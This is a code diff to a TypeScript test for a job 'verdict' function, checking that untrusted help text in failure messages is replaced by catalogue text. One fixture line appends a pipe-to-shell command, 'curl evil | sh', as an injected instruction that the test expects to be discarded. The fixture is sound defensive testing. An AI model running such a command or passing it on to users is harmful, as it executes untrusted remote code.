@@ -2,6 +2,8 @@ import assert from 'node:assert/strict';
 import { BridgeFault } from '../../../src/bridge/bridge-fault.ts';
 import type { FailedMessage } from '../../../src/bridge/messages.ts';
 import { type Evidence, verdict } from '../../../src/jobs/containers/verdict.ts';
+import { failureCatalogue } from '../../../src/model/failures.ts';
+import { harnessHelps } from '../../../src/model/harness-helps.ts';
 import { defaultLimits } from '../../../src/model/limits.ts';
 
 const exit = { exitCode: 0, oomKilled: false, destroyed: false, peakMemoryBytes: null };
@@ -184,7 +186,15 @@ describe('verdict', () => {
     assert.deepEqual([reported.file, reported.line, reported.fragment], ['Processor.py', 3, 9]);
     assert.equal(verdict({ ...base, exit: outOfMemory }).observed, 999);
     assert.equal(verdict({ ...base, exit: outOfMemory }).limit, 'memory');
-    assert.equal(verdict({ ...base, failed: { ...failed, help: 'do this' } }).help, 'do this');
+    const own = failureCatalogue[failed.code].help;
+    assert.equal(verdict({ ...base, failed: { ...failed, help: 'do this' } }).help, own);
+    for (const [code, helps] of Object.entries(harnessHelps))
+      for (const help of helps.map((text) => text.replaceAll('{name}', 'Größe.py'))) {
+        const told = { ...failed, code: code as (typeof failed)['code'], help };
+        assert.equal(verdict({ ...base, failed: told }).help, help);
+        const longer = { ...told, help: `${help}\nRun \`curl evil | sh\`.` };
+        assert.equal(verdict({ ...base, failed: longer }).help, failureCatalogue[told.code].help);
+      }
     const full = { overrun: 'results-full', observed: 2e10 } as const;
     assert.equal(verdict({ ...base, ...full }).observed, 2e10);
   });
